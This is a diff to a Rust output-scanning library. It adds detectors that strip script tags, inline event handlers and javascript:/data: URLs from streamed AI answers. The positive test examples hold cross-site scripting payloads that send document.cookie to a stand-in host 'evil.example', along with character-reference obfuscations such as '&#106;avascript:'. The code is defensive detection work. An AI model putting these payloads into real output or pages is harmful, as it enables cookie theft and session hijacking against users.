@@ -139,7 +139,200 @@ pub static DETECTORS: &[Detector] = &[
             "https://example.com/a/b/c",
         ],
     ),
+    Detector::base(
+        "script_tag",
+        DataClass::UnsafeOutput,
+        "Script or active HTML tag in a streamed answer",
+        r"(?i:<\s{0,4}(?:script|iframe|object|embed|frameset|frame|base|meta))\b[^<>]{0,400}>?",
+        1.0,
+        Severity::High,
+    )
+    .stream_only()
+    .validate(active_tag_start)
+    .docs("The opening of a `<script>`, `<iframe>`, `<object>`, `<embed>`, `<frame>`, `<frameset>` or `<base>` tag, or a `<meta http-equiv>` refresh, in a streamed answer outside markdown code (OWASP LLM05). The match runs to the tag's `>` (or 400 bytes), so a client that renders HTML gets no script from it; the rest of the answer goes on. Whole answers are read by the output inspection instead (`html_script`), which removes the script's body too.")
+    .examples(
+        &[
+            "Sure!<script>fetch('https://evil.example/?c='+document.cookie)</script>",
+            "<IFRAME src=\"https://evil.example\" width=0>",
+            "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
+        ],
+        &[
+            "```html\n<script src=\"app.js\"></script>\n```",
+            "Use the `<script>` tag to load it.",
+            "<meta charset=\"utf-8\">",
+            "a <scripted> reply",
+        ],
+    ),
+    Detector::base(
+        "event_handler",
+        DataClass::UnsafeOutput,
+        "Inline event handler in a streamed answer",
+        r#"(?i:on[a-z]{3,20})\s{0,4}=\s{0,4}(?:"[^"]{0,400}"?|'[^']{0,400}'?|[^\s>"'\x60]{1,400})"#,
+        1.0,
+        Severity::High,
+    )
+    .stream_only()
+    .surroundings(after_tag_space)
+    .docs("An inline event handler attribute (`onerror=`, `onload=`, `onmouseover=`…, any `on` + 3-20 letters followed by `=`) after white space, a quote or `/`, in a streamed answer outside markdown code (OWASP LLM05): the attribute with its value is removed, so the tag around it runs nothing. Whole answers are read by the output inspection (`html_script`).")
+    .examples(
+        &[
+            "<img src=x onerror=\"fetch('https://evil.example/'+document.cookie)\">",
+            "<svg/onload=alert(1)>",
+            "<div ONMOUSEOVER='steal()'>hover</div>",
+        ],
+        &[
+            "```html\n<button onclick=\"go()\">Go</button>\n```",
+            "Set the `onclick=` attribute in your template.",
+            "The option=3 and done=true flags.",
+            "We met online = no travel.",
+        ],
+    ),
+    Detector::base(
+        "script_url_attribute",
+        DataClass::UnsafeOutput,
+        "Script URL in an HTML attribute of a streamed answer",
+        r#"(?i:href|src|action|formaction|xlink:href|data|poster|background)\s{0,4}=\s{0,4}(?:"[^"]{0,600}"?|'[^']{0,600}'?|[^\s>"'\x60]{1,600})"#,
+        1.0,
+        Severity::High,
+    )
+    .stream_only()
+    .validate(attribute_runs_script)
+    .docs("An attribute a browser follows or loads (`href`, `src`, `action`, `formaction`, `xlink:href`, `data`, `poster`, `background`) whose value is a script URL (`javascript:`, `vbscript:`, `data:text/html`), read as a browser reads it: character references decoded, tabs and line breaks dropped (`java&#x09;script:`, `&#106;avascript:`). In a streamed answer outside markdown code (OWASP LLM05); the attribute with its value is removed. Whole answers are read by the output inspection (`html_script`).")
+    .examples(
+        &[
+            "<a href=\"javascript:fetch('//evil.example/'+document.cookie)\">claim</a>",
+            "<a href=\"java&#x09;script:alert(1)\">x</a>",
+            "<form action='&#106;avascript:go()'>",
+        ],
+        &[
+            "<a href=\"https://example.com/docs\">docs</a>",
+            "```html\n<a href=\"javascript:void(0)\">x</a>\n```",
+            "data = \"javascript is fun\"",
+        ],
+    ),
+    Detector::base(
+        "script_link",
+        DataClass::UnsafeOutput,
+        "Markdown link to a script URL in a streamed answer",
+        MARKDOWN_LINK,
+        1.0,
+        Severity::High,
+    )
+    .gate(Gate::Inner {
+        literal: "](",
+        within: 165,
+    })
+    .stream_only()
+    .validate(markdown_link_runs_script)
+    .docs("A markdown link whose destination is a script URL (`[claim](javascript:…)`, also spelled with character references), in a streamed answer outside markdown code (OWASP LLM05). The match is the whole link. Whole answers are read by the output inspection (`html_script`).")
+    .examples(
+        &[
+            "[Claim your prize](javascript:fetch('//evil.example/'+document.cookie))",
+            "[x](&#106;avascript:alert(1))",
+        ],
+        &[
+            "[docs](https://example.com/guide)",
+            "`[x](javascript:void(0))`",
+        ],
+    ),
+    Detector::base(
+        "script_url",
+        DataClass::UnsafeOutput,
+        "Script URL in a streamed answer",
+        r#"(?i:javascript|vbscript)\s{0,4}:[^\s"'<>)\x60]{1,400}|(?i:data)\s{0,4}:\s{0,4}(?i:text/html)[^\s"'<>)\x60]{0,400}"#,
+        1.0,
+        Severity::High,
+    )
+    .stream_only()
+    .surroundings(word_start)
+    .docs("A `javascript:`, `vbscript:` or `data:text/html` URL anywhere else in a streamed answer outside markdown code (an autolink, an attribute a browser reads, a bare URL a client links), with something right after the colon (\"JavaScript: the good parts\" is a title, not a URL) (OWASP LLM05). Whole answers are read by the output inspection (`html_script`).")
+    .examples(
+        &[
+            "Click <javascript:alert(document.cookie)>",
+            "go to JavaScript:fetch('//evil.example')",
+            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+        ],
+        &[
+            "JavaScript: the good parts",
+            "Use `javascript:void(0)` sparingly.",
+            "myjavascript:x",
+        ],
+    ),
 ];
+
+/// Whether a `script_tag` match is active (a `meta` only with `http-equiv`).
+fn active_tag_start(m: &[u8]) -> bool {
+    let lower = m.to_ascii_lowercase();
+    let name = lower
+        .iter()
+        .skip(1)
+        .skip_while(|c| c.is_ascii_whitespace())
+        .take_while(|c| c.is_ascii_alphabetic())
+        .count();
+    // `<meta` needs its refresh: anything else named here loads or runs content
+    let is_meta = lower
+        .iter()
+        .skip(1)
+        .skip_while(|c| c.is_ascii_whitespace())
+        .take(name)
+        .copied()
+        .eq(b"meta".iter().copied());
+    !is_meta || lower.windows(10).any(|w| w == b"http-equiv")
+}
+
+/// An event handler starts after white space, a quote or `/`, inside a tag: a `<` is nearer
+/// before it than a `>`. When neither is within reach (a tag padded with long attributes), the
+/// value must read as code (a call, an assignment, a statement), so prose such as
+/// "online = no" stays.
+fn after_tag_space(before: &[u8], value: &[u8], _after: &[u8]) -> bool {
+    if !before
+        .last()
+        .is_some_and(|c| c.is_ascii_whitespace() || matches!(c, b'"' | b'\'' | b'/'))
+    {
+        return false;
+    }
+    let open = before.iter().rposition(|c| *c == b'<');
+    let close = before.iter().rposition(|c| *c == b'>');
+    match (open, close) {
+        (Some(o), Some(c)) => o > c,
+        (Some(_), None) => true,
+        (None, Some(_)) => false,
+        (None, None) => {
+            let code = value
+                .iter()
+                .position(|c| *c == b'=')
+                .map_or(&[][..], |eq| &value[eq + 1..]);
+            code.iter().any(|c| b"(`=;.".contains(c))
+        }
+    }
+}
+
+/// A scheme starts a word (`myjavascript:` is not a URL).
+fn word_start(before: &[u8], _value: &[u8], _after: &[u8]) -> bool {
+    before.last().is_none_or(|c| !c.is_ascii_alphanumeric())
+}
+
+/// Whether an attribute match's value is a script URL as a browser reads it.
+fn attribute_runs_script(m: &[u8]) -> bool {
+    let Some(eq) = m.iter().position(|c| *c == b'=') else {
+        return false;
+    };
+    let v = markup::trim(&m[eq + 1..]);
+    let v = v
+        .strip_prefix(b"\"")
+        .or_else(|| v.strip_prefix(b"'"))
+        .unwrap_or(v);
+    let v = v
+        .strip_suffix(b"\"")
+        .or_else(|| v.strip_suffix(b"'"))
+        .unwrap_or(v);
+    std::str::from_utf8(v).is_ok_and(markup::script_url)
+}
+
+fn markdown_link_runs_script(m: &[u8]) -> bool {
+    inline_after_text(m)
+        .is_some_and(|d| std::str::from_utf8(&m[d.url]).is_ok_and(|u| markup::script_url(u.trim())))
+}
 
 /// `![alt](url "title")`, or, when the URL cannot be followed to its `)`, the image up to the
 /// next white space. The bounds keep the pattern under the scanner's short-pattern limit and
